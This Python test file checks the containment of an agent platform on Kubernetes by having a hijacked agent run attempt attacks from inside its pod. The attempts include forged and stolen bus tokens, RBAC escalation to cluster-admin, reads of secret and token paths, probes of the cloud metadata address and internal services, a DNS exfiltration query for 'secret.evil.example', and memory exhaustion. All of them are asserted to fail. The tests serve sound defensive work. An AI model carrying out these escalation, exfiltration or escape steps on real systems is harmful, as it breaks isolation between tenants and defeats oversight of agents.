"""What a run that was taken over tries, from inside its containers; by the numbers of FAULTS.

What another tenant tries is in test_attacks_of_tenants.py, what is tried when the run is over
in test_attacks_after_the_end.py, and what takes without end in test_exhaustion.py.

The agent container and the bridge share the network of their pod, so no policy of the cluster
can tell them apart there. What the agent lacks is the token: so it reaches the bus, and the bus
does not listen.
"""

import base64
import json

import pytest

from sympozium.contract.resources import Object
from tests.fixtures.chat import Person, replies_to
from tests.fixtures.system import ScriptedModel, System
from tests.kube.attacked import (
    OURS,
    READER,
    THEIRS,
    addresses,
    bridge_of,
    refuses_listening,
    refuses_publishing,
    without_controllers,
)
from tests.kube.cluster import NODE_ADDRESS, Clients, ClusterError, KubeCluster
from tests.kube.inside import API_TOKEN, BUS_TOKEN, LOOK, REACH, Attempt, LiveRun, start, wait_until
from tests.kube.release import SYSTEM_NAMESPACE

pytestmark = [pytest.mark.timeout(240), pytest.mark.usefixtures("slow_model")]


def test_1_the_agent_reaches_the_bus_and_is_not_heard_without_a_token(
    plain: LiveRun, bus_address: tuple[str, str]
) -> None:
    answer = plain.on_bus("agent", bus_address, "", "PUB inbox.attacked.web 1\r\nx\r\n")
    assert answer["is_reached"]
    assert any("Authorization Violation" in line for line in answer["said"]), answer
    assert "PONG" not in answer["said"]


@pytest.mark.parametrize("token", ["x", "eyJhbGciOiJub25lIn0.e30."])
def test_1_a_token_that_nobody_gave_is_not_heard_either(
    plain: LiveRun, bus_address: tuple[str, str], token: str
) -> None:
    answer = plain.on_bus("agent", bus_address, token)
    assert "PONG" not in answer["said"]


def test_2_a_stolen_token_does_not_publish_in_anothers_name(
    system: System,
    plain: LiveRun,
    reader: LiveRun,
    foreign: LiveRun,
    bus_address: tuple[str, str],
) -> None:
    subjects = [
        "outbox.attacked.web",
        "outbox.elsewhere.web",
        "inbox.elsewhere.web",
        "inbox.attacked.web",
        f"live.attacked.{reader.uid}",
        f"runs.elsewhere.{foreign.uid}.out",
        f"runs.attacked.{plain.uid}.in",
        "dead.INBOX.attacked.web",
        "context.elsewhere.x",
        "history.attacked.web",
    ]
    refuses_publishing(bridge_of(plain), bus_address, subjects)
    doctor = system.sympozium("doctor", timeout_s=120.0)
    (told,) = (one for one in doctor.stdout.splitlines() if f"run {OURS}/{plain.uid}" in one)
    assert "note refused" in told, "whoever looks at the system sees it"


def test_3_a_stolen_token_does_not_listen_to_others(
    plain: LiveRun, bus_address: tuple[str, str]
) -> None:
    subjects = [">", "*", "_INBOX.>", "runs.>", "live.>", "inbox.>", "outbox.>", "$SYS.>"]
    refuses_listening(bridge_of(plain), bus_address, subjects)


def test_4_a_stolen_token_does_not_touch_streams(
    plain: LiveRun, bus_address: tuple[str, str]
) -> None:
    subjects = [
        "$JS.API.STREAM.PURGE.INBOX",
        "$JS.API.STREAM.DELETE.RUNS",
        "$JS.API.STREAM.MSG.GET.RUNS",
        "$JS.API.DIRECT.GET.RUNS",
        "$JS.API.CONSUMER.CREATE.RUNS",
        "$JS.API.INFO",
    ]
    refuses_publishing(bridge_of(plain), bus_address, subjects)


def test_6_a_result_for_another_run_is_not_taken(
    plain: LiveRun, reader: LiveRun, bus_address: tuple[str, str]
) -> None:
    subject = f"runs.attacked.{reader.uid}.out"
    forged = json.dumps({"type": "result", "text": "forged"})
    refuses_publishing(bridge_of(plain), bus_address, [subject], forged)
    assert "result" not in reader.status()
    assert reader.status().get("phase", "Pending") in {"Pending", "Running"}


def may(verb: str, resource: str, namespace: str = OURS, group: str = "") -> Attempt:
    """Ask the API server whether the asker may do something."""
    resource, _, subresource = resource.partition("/")
    wanted = {
        "verb": verb,
        "group": group,
        "resource": resource,
        "subresource": subresource,
        "namespace": namespace,
    }
    path = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"
    return Attempt("POST", path, {"spec": {"resourceAttributes": wanted}})


def test_7_a_skill_may_what_it_is_for_and_nothing_else(reader: LiveRun) -> None:
    asked = [
        may("list", "pods"),
        may("get", "pods/log"),
        may("get", "secrets"),
        may("list", "secrets"),
        may("create", "pods"),
        may("create", "pods/exec"),
        may("create", "serviceaccounts/token"),
        may("create", "agentruns", group="sympozium.ai"),
        may("*", "*", group="*"),
        may("list", "pods", THEIRS),
        may("list", "pods", SYSTEM_NAMESPACE),
        may("get", "nodes", ""),
        may("impersonate", "users", ""),
    ]
    answers = reader.ask(READER, API_TOKEN, *asked)
    assert [one.body["status"]["allowed"] for one in answers] == [True, True] + [False] * 11


def test_7_a_run_without_that_skill_has_nothing_to_ask_with(
    tenants: Clients, plain: LiveRun, reader: LiveRun
) -> None:
    listing = Attempt("GET", f"/api/v1/namespaces/{OURS}/pods")
    for container in ("agent", "ipc-bridge"):
        (answer,) = plain.ask(container, plain.bus_token(), listing)
        assert answer.code == 0, "no packet of its pod gets to the API server"
    # The pod of the other run gets there, with what its own bridge holds and with the stolen one.
    for token in ("", plain.bus_token(), reader.bus_token()):
        (answer,) = reader.ask("agent", token, listing)
        assert answer.code in ({401} if token else {401, 403}), answer
    claims = plain.bus_token().split(".")[1]
    told = json.loads(base64.urlsafe_b64decode(claims + "=" * (-len(claims) % 4)))
    assert told["aud"] == ["nats"]
    # And were it a token for the API server, its account holds nothing.
    user = f"--as=system:serviceaccount:{OURS}:sympozium-run"
    for what in (("list", "pods"), ("get", "secrets"), ("list", "agentruns"), ("get", "pods/log")):
        assert tenants.run_kubectl("-n", OURS, "auth", "can-i", *what, user).returncode, what


@pytest.mark.parametrize("name", ["plain", "reader"])
def test_8_the_agent_container_holds_no_token_and_no_key(
    request: pytest.FixtureRequest, name: str
) -> None:
    live: LiveRun = request.getfixturevalue(name)
    folders = ("/var/run/secrets/kubernetes.io", "/var/run/secrets/sympozium/model")
    paths = (*folders, API_TOKEN, BUS_TOKEN, "/proc/1/root/var/run/secrets/sympozium")
    found = live.python("agent", LOOK, *paths)
    assert found["readable"] == []
    text = json.dumps(found["environ"])
    for secret in ("NATS", "OPENAI", "TOKEN", "KEY"):
        assert secret not in text.upper().replace("KUBERNETES_", ""), text
    processes = live.python(
        "agent",
        "import json, os; print(json.dumps([pid for pid in os.listdir('/proc') if pid.isdigit()]))",
    )
    assert len(processes) <= 3, "the agent, this look, and nobody of another container"


def test_9_a_skill_gets_no_rights_by_asking_for_them(reader: LiveRun) -> None:
    group = "/apis/rbac.authorization.k8s.io/v1"
    rule = {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}
    role = {"metadata": {"name": "mine"}, "rules": [rule]}
    subject = {"kind": "ServiceAccount", "name": "sympozium-run", "namespace": OURS}
    reference = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole"}
    binding: Object = {"metadata": {"name": "mine"}, "subjects": [subject]}
    pod = {"metadata": {"name": "x"}, "spec": {"containers": [{"name": "x", "image": "x:1"}]}}
    attempts = [
        Attempt("GET", f"/api/v1/namespaces/{OURS}/pods"),
        Attempt("POST", f"{group}/namespaces/{OURS}/roles", role),
        Attempt("POST", f"{group}/clusterroles", role),
        Attempt(
            "POST",
            f"{group}/namespaces/{OURS}/rolebindings",
            binding | {"roleRef": {**reference, "name": "cluster-admin"}},
        ),
        Attempt(
            "POST",
            f"{group}/clusterrolebindings",
            binding | {"roleRef": {**reference, "name": "sympozium-tenant-controller"}},
        ),
        Attempt("POST", f"/api/v1/namespaces/{OURS}/pods", pod),
        Attempt("GET", f"/api/v1/namespaces/{OURS}/secrets"),
        Attempt("GET", f"/api/v1/namespaces/{THEIRS}/pods"),
        Attempt("GET", "/api/v1/nodes"),
        Attempt("GET", f"/api/v1/namespaces/{SYSTEM_NAMESPACE}/secrets/sympozium-bus"),
        Attempt("POST", f"/api/v1/namespaces/{OURS}/serviceaccounts/sympozium-run/token", {}),
    ]
    seen, *denied = reader.ask(READER, API_TOKEN, *attempts)
    assert seen.code == 200, "its own right holds"
    assert [one.code for one in denied] == [403] * 10, denied


def test_10_a_run_leaves_no_rights_behind_whatever_dies(
    tenants: Clients, kube_cluster: KubeCluster
) -> None:
    kinds = "roles,rolebindings,serviceaccounts,networkpolicies,secrets,configmaps"

    def there() -> set[str]:
        return set(tenants.kubectl("-n", OURS, "get", kinds, "-o", "name").split())

    before = there()
    live = start(tenants, OURS, "left-1", "reader")
    assert there() == before, "nothing is made for a run but its Job"
    tenants.kubectl("-n", OURS, "delete", "agentrun", live.name, "--wait=false")
    controllers = (
        "-n",
        SYSTEM_NAMESPACE,
        "delete",
        "pod",
        "-l",
        "sympozium.ai/component=controller",
    )
    tenants.kubectl(*controllers, "--force", "--grace-period=0")

    def is_gone() -> bool:
        selected = ("-l", f"sympozium.ai/run={live.name}", "-o", "name")
        return not tenants.kubectl("-n", OURS, "get", "jobs,pods", *selected).strip()

    wait_until(is_gone)
    assert there() == before
    tenants.kubectl(
        "-n", SYSTEM_NAMESPACE, "rollout", "status", "deployment/sympozium-controller",
        "--timeout=120s",
    )  # fmt: skip


def test_24_a_run_reaches_the_bus_and_its_model_and_nothing_else(
    tenants: Clients,
    plain: LiveRun,
    reader: LiveRun,
    foreign: LiveRun,
    bus_address: tuple[str, str],
    model_port: int,
) -> None:
    of_bus = tenants.get("-n", SYSTEM_NAMESPACE, "pods", "-l", "sympozium.ai/component=nats")
    bus_addresses = {pod["status"]["podIP"] for pod in of_bus["items"]}
    targets = {
        f"{address}:{port}"
        for namespace in (SYSTEM_NAMESPACE, "kube-system", "default", THEIRS)
        for address, ports in addresses(tenants, namespace).items()
        for port in {*ports, 8001, 8222}
        if not (address in bus_addresses and port == 4222)
        and not (namespace == "kube-system" and port == 53)
    }
    service = tenants.get("-n", "default", "service", "kubernetes")["spec"]["clusterIP"]
    api = {f"{service}:443", f"{NODE_ADDRESS}:6443"}
    store = tenants.get("-n", SYSTEM_NAMESPACE, "service", "sympozium-postgresql")
    targets |= {
        f"{NODE_ADDRESS}:22",  # its ports from 10000 on are opened for the servers of tests
        f"{NODE_ADDRESS}:2379",
        f"{NODE_ADDRESS}:9100",
        f"{store['spec']['clusterIP']}:5432",
        "169.254.169.254:80",
        "192.0.2.1:443",
        "8.8.8.8:53",
    }
    assert len(targets) > 10
    opened = [":".join(bus_address), f"{NODE_ADDRESS}:{model_port}"]
    for container in ("agent", "ipc-bridge"):
        assert plain.python(container, REACH, *sorted(targets | api)) == []
        assert plain.python(container, REACH, *opened) == opened
    for container in ("agent", "ipc-bridge", READER):
        assert reader.python(container, REACH, *sorted(targets)) == []
    assert set(reader.python(READER, REACH, *api)) == api, "its skill is there to ask it"


def test_24_no_name_leaves_a_run_not_even_to_the_clusters_resolver(
    tenants: Clients, plain: LiveRun
) -> None:
    code = """
import json, socket, sys
query = bytes.fromhex("123401000001000000000000") + b"\\x06secret\\x04evil\\x07example\\x00"
query += bytes.fromhex("00100001")
answered = []
for address in sys.argv[1:]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(2)
        try:
            udp.sendto(query, (address, 53))
            udp.recv(512)
            answered.append(address)
        except OSError:
            pass
print(json.dumps(answered))
"""
    resolver = tenants.get("-n", "kube-system", "service", "kube-dns")
    pods = tenants.get("-n", "kube-system", "pods", "-l", "k8s-app=kube-dns")["items"]
    inside = [resolver["spec"]["clusterIP"], *(pod["status"]["podIP"] for pod in pods)]
    assert len(inside) > 1
    for container in ("agent", "ipc-bridge"):
        outside = ["8.8.8.8", "192.0.2.1", NODE_ADDRESS]
        assert plain.python(container, code, *inside, *outside) == []
        known = "import json, socket; print(json.dumps(socket.gethostbyname('{}')))"
        with pytest.raises(ClusterError, match=r"gaierror|Temporary failure|not known"):
            plain.python(container, known.format("kubernetes.default.svc.cluster.local"))


def test_31_memory_taken_without_end_ends_what_took_it_and_nobody_else(
    plain: LiveRun, foreign: LiveRun
) -> None:
    with pytest.raises(ClusterError, match="137"):
        plain.raw(
            "agent", "balloon = bytearray(); [balloon.extend(bytes(1 << 20)) for _ in range(4096)]"
        )
    assert foreign.python("agent", "print(1)") == 1
    assert foreign.status().get("phase", "Pending") in {"Pending", "Running"}


async def test_34_a_message_waits_for_the_webhook_and_is_answered_once(
    kube_clients: Clients, person: Person, model: ScriptedModel
) -> None:
    with without_controllers(kube_clients):
        message_id = await person.say("thirty-four", "hello")
    end = await person.end_of("thirty-four", message_id)
    assert end["state"] == "done", end
    assert len(replies_to(await person.transcript("thirty-four"), message_id)) == 1
